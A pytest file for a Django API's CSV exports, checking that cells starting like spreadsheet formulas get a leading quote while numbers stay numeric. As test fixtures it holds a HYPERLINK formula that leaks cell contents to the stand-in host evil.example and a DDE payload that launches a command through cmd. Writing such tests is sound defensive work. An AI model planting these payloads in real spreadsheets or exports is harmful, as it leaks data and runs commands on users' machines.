"""CSV exports open safely in a spreadsheet: a cell that starts like a formula (``=``, ``+``,
``-``, ``@``, a tab or a carriage return) comes out as text, with OWASP's leading single quote;
numbers stay numbers."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest

from api.renderers import neutralise
from claims.vocabulary import Stance
from tests.factories import ActorFactory, CitationFactory, ClaimFactory, StatementFactory

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1, "Click for the source")'


def rows(api, path: str, **params) -> list[dict[str, str]]:
    response = api.get(path, {"format": "csv", "page_size": 100, **params})
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(response.content.decode())))


def claim_row(api, claim) -> dict[str, str]:
    return next(row for row in rows(api, "/api/v1/claims/") if row["id"] == str(claim.pk))


def test_a_claim_that_starts_with_an_equals_sign_is_neutralised_in_csv(api, ledger):
    claim = ClaimFactory(published=True, text=HYPERLINK, summary="@SUM(1+1)*cmd|' /C calc'!A0")
    row = claim_row(api, claim)
    assert row["text"] == "'" + HYPERLINK
    assert row["summary"] == "'@SUM(1+1)*cmd|' /C calc'!A0"


def test_no_cell_of_the_claims_csv_starts_like_a_formula(api, ledger):
    ClaimFactory(published=True, text="+1+1", summary="-2+3", place_name="\t=1+1")
    ClaimFactory(published=True, text="\r=1+1", summary="=1+1")
    for row in rows(api, "/api/v1/claims/"):
        for column, cell in row.items():
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), (column, cell)
            assert not cell.startswith("-") or cell.lstrip("-").replace(".", "").isdigit()


def test_a_statement_csv_neutralises_names_quotes_and_the_claims_text(api, ledger):
    claim = ClaimFactory(published=True, text=HYPERLINK)
    actor = ActorFactory(name="@channel", slug="at-channel")
    statement = StatementFactory(
        claim=claim,
        actor=actor,
        stance=Stance.ASSERTS,
        quote="-- we deny nothing",
        paraphrase="+ more to come",
        translation="\tindented",
    )
    CitationFactory(statement=statement, source=ledger.source)
    (row,) = [r for r in rows(api, "/api/v1/statements/") if r["id"] == str(statement.pk)]
    assert row["claim_text"] == "'" + HYPERLINK
    assert row["actor_name"] == "'@channel"
    assert row["quote"] == "'-- we deny nothing"
    assert row["paraphrase"] == "'+ more to come"
    assert row["translation"] == "'\tindented"


def test_a_negative_coordinate_stays_a_number_in_csv(api, ledger):
    claim = ClaimFactory(
        published=True, latitude=Decimal("-12.65000"), longitude=Decimal("-8.00000")
    )
    row = claim_row(api, claim)
    assert row["latitude"] == "-12.65000"
    assert row["longitude"] == "-8.00000"


def test_dates_and_ordinary_text_are_untouched_in_csv(api, ledger):
    row = claim_row(api, ledger.claim)
    assert row["text"] == "An FLA drone shot down a Malian army helicopter"
    assert row["event_date"] == "2025-02"
    assert row["published_at"].startswith("2025-10-07")


def test_a_lone_dash_is_text_and_gets_its_quote(api, ledger):
    claim = ClaimFactory(published=True, place_name="-")
    assert claim_row(api, claim)["place_name"] == "'-"


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-1+1", "'-1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-", "'-"),
        ("- a list item", "'- a list item"),
        # Numbers written out are data a spreadsheet reads as numbers, not formulas.
        ("-12.5", "-12.5"),
        ("+33", "+33"),
        ("-4.1e3", "-4.1e3"),
        (-3, -3),
        (Decimal("-1.5"), Decimal("-1.5")),
        # Nothing else changes.
        ("An FLA drone", "An FLA drone"),
        ("a = b", "a = b"),
        ("", ""),
        (None, None),
        (True, True),
    ],
)
def test_neutralise_quotes_text_that_starts_like_a_formula_and_nothing_else(cell, written):
    assert neutralise(cell) == written
